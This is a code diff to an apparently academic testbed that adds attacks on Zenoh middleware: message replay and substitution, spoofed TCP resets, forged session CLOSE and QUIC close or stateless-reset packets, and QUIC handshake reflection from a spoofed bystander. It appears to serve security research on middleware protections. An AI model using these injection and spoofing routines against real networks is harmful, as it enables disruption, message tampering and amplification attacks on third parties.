@@ -1,12 +1,22 @@
 """Zenoh 1.x: sessions over TCP, TLS and QUIC, and rights by the common name in a certificate."""
 
+import secrets
+import struct
+import threading
+from collections.abc import Sequence
+from dataclasses import replace
+from functools import partial
 from typing import TYPE_CHECKING, Any
 
+from comseclab.attack import tcp
 from comseclab.attack.base import Rogue
 from comseclab.attack.dialect import Dialect, Prepared, Setting
-from comseclab.attack.frame import TCP, UDP, Frame
+from comseclab.attack.dialects import zenoh_session as session
+from comseclab.attack.frame import TCP, UDP, Frame, udp_frame
+from comseclab.attack.path import passes
 from comseclab.middleware import zenoh
 from comseclab.middleware.base import Material, Place
+from comseclab.testbed.network import hardware_of
 from comseclab.trial.spec import Factors
 
 if TYPE_CHECKING:
@@ -18,12 +28,31 @@ FULL_PACKET = 1000
 """Bytes. A message of the stream fills several QUIC packets but the last; acknowledgements are much shorter."""
 
 
+CONNECTION_ID = 8
+"""Bytes; of the identifiers that Zenoh's QUIC chooses. Only a datagram that bears one gets to its connection."""
+SYN = 0x02
+EVERY = 4
+"""One message in so many is replaced by an old one."""
+REPLAYED = 40
+PORTS = range(zenoh.FIRST_PORT, zenoh.FIRST_PORT + 4)
+"""Where a stranger looks for nodes."""
+
+
 class Zenoh(Dialect):
     stacks = ("zenoh",)
+    silences = {  # noqa: RUF012
+        "close": "a CLOSE of the session in clear; of QUIC, a datagram like a CONNECTION_CLOSE or stateless reset",
+        "reset": "a TCP reset in the publisher's name",
+    }
 
     def refuse(self, attack: str, factors: Factors) -> str | None:
         if attack == "self-signed-permissions":
             return "a node of Zenoh goes by rules of its own; nobody brings permissions along"
+        quic = zenoh.LEVELS[factors.protection].carrier == "quic"
+        if attack == "silence-reset" and quic:
+            return "QUIC knows no TCP reset"
+        if attack == "reflection" and quic:
+            return None
         return super().refuse(attack, factors)
 
     def prepare(self, setting: Setting) -> Prepared:
@@ -55,6 +84,133 @@ class Zenoh(Dialect):
         if frame.protocol == UDP:
             return len(payload) > FULL_PACKET and not payload[0] & LONG_HEADER
         return frame.protocol == TCP and len(payload) > scene.spec.trial.streams[0].max_size // 2
+
+    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
+        """As they were: in the connection they came in, and to the subscriber's own port in a connection made anew.
+
+        Numbered anew: in place of messages now in flight, with their numbers of TCP, and those of Zenoh where they are in
+        clear.
+        """
+        if resequenced:
+            old = [frame.payload for frame in scene.messages()][-REPLAYED:]
+            scene.on_messages(_Substitute(scene, old))
+            return
+        super().replay(scene, resequenced=False)
+        if zenoh.LEVELS[scene.spec.trial.factors.protection].carrier != "quic":
+            threading.Thread(target=_replay_anew, args=(scene,), daemon=True).start()
+
+    def silence(self, scene: "Scene", message: str) -> None:
+        if message == "reset":
+            tcp.reset(scene)
+        else:
+            _close(scene)
+
+    def reflect(self, scene: "Scene") -> None:
+        """Send the first datagram of the recorded QUIC handshake to the node that did not get it, from the bystander.
+
+        Its keys follow from itself (RFC 9001, 5.2), so any server answers it, at most thrice as much as it got (RFC
+        9000, 8.1).
+        """
+        hello = next(frame for frame in scene.path.seen if frame.protocol == UDP and frame.payload[:1] >= b"\xc0")
+        asked = scene.reader if hello.destination[0] == scene.writer.address else scene.writer
+        bystander = scene.hosts["bystander"].address
+        ends = hardware_of(scene.attacker.address), hardware_of(asked.address)
+        # Victims listen on ports of their own; the one that nobody listens on stays silent.
+        for port in PORTS:
+            scene.inject(udp_frame(ends, (bystander, zenoh.FIRST_PORT), (asked.address, port), hello.payload))
+
+
+class _Substitute:
+    """What goes on in place of messages in flight: an old one in place of every fourth."""
+
+    def __init__(self, scene: "Scene", old: Sequence[bytes]) -> None:
+        self._scene, self._old, self._seen = scene, old, 0
+
+    def __call__(self, frame: Frame) -> list[tuple[float, Frame]]:
+        self._seen += 1
+        current = frame.payload
+        fitting = [payload for payload in self._old if len(payload) == len(current)]
+        if self._seen % EVERY or not fitting:
+            self._scene.targeted -= 1
+            return [(0.0, frame)]
+        old = fitting[self._seen // EVERY % len(fitting)]
+        begin = 0
+        if self._scene.spec.trial.protection.base == "none":
+            begin = session.payload_at(current) or 0
+        return [(0.0, replace(frame.with_payload(current[:begin] + old[begin:]), port=frame.port))]
+
+
+def _replay_anew(scene: "Scene") -> None:
+    """Say all that the writer said to the subscriber, in a connection of the attacker's own.
+
+    In clear it opens a session by its own name, as the cookie of a session is good for one connection only, and has it
+    begin with the number that the recorded session began with; what follows is said byte by byte.
+    """
+    stream = _said(scene.path.seen, scene.writer.address, scene.reader.address)
+    for port in PORTS:
+        try:
+            connection = scene.connect(scene.reader.address, port)
+        except OSError:
+            continue
+        with connection:
+            try:
+                if scene.spec.trial.protection.base == "none":
+                    _opening, opened, *recorded = session.batches(stream)
+                    session.open_session(connection, partial(scene.say, connection), session.first_number(opened))
+                    stream = b"".join(session.batch(one) for one in recorded)
+                scene.say(connection, stream)
+                scene.note(f"{len(stream)} recorded bytes said to {scene.reader.address}:{port}")
+                scene.ended.wait()
+            except (OSError, ValueError) as error:
+                scene.note(f"{scene.reader.address}:{port} ended the connection: {error}")
+        return
+
+
+def _said(seen: Sequence[Frame], sender: str, receiver: str) -> bytes:
+    """What one host said to another in their first TCP connection, put together by sequence numbers."""
+    said: dict[int, bytes] = {}
+    first: tuple[int, int, int] | None = None
+    for frame in list(seen):
+        if frame.protocol != TCP or (frame.source[0], frame.destination[0]) != (sender, receiver):
+            continue
+        number, flags = struct.unpack_from(">I", frame.raw, 38)[0], frame.raw[47]
+        if first is None and flags & SYN:
+            first = frame.source[1], frame.destination[1], number + 1
+        if first and (frame.source[1], frame.destination[1]) == first[:2] and frame.payload:
+            said.setdefault((number - first[2]) % (1 << 32), frame.payload)
+    stream = b""
+    for at in sorted(said):
+        if at > len(stream):
+            break
+        stream += said[at][len(stream) - at :]
+    return stream
+
+
+def _close(scene: "Scene") -> None:
+    """Just before the next message: in a TCP connection the bytes of a CLOSE, with the number that is expected next."""
+
+    def rule(frame: Frame) -> list[tuple[float, Frame]]:
+        if scene.dialect.is_message(frame, scene):
+            scene.follow(passes)
+            scene.inject_on_path(_closing(frame))
+            scene.note(f"CLOSE to {frame.destination[0]}:{frame.destination[1]} in the name of {frame.source[0]}")
+        return [(0.0, frame)]
+
+    scene.follow(rule)
+
+
+def _closing(frame: Frame) -> Frame:
+    """A CLOSE at the place of a message.
+
+    Of QUIC, whoever does not know the keys can but write a packet of the connection's with a frame CONNECTION_CLOSE
+    (RFC 9000, 19.19) in clear, and a made-up token behind it, as a stateless reset has (10.3).
+    """
+    if frame.protocol == UDP:
+        header = frame.payload[: 1 + CONNECTION_ID + 4]
+        said = header + bytes((0x1C, 0, 0, 0)) + secrets.token_bytes(32)
+        return replace(frame.with_payload(said), port=frame.port)
+    head = len(frame.raw) - len(frame.payload)
+    return replace(frame, raw=frame.raw[:head]).with_payload(session.batch(session.SESSION_CLOSED))
 
 
 def _rogue(setting: Setting, rogue: Rogue, place: Place, certified: Material) -> Material:
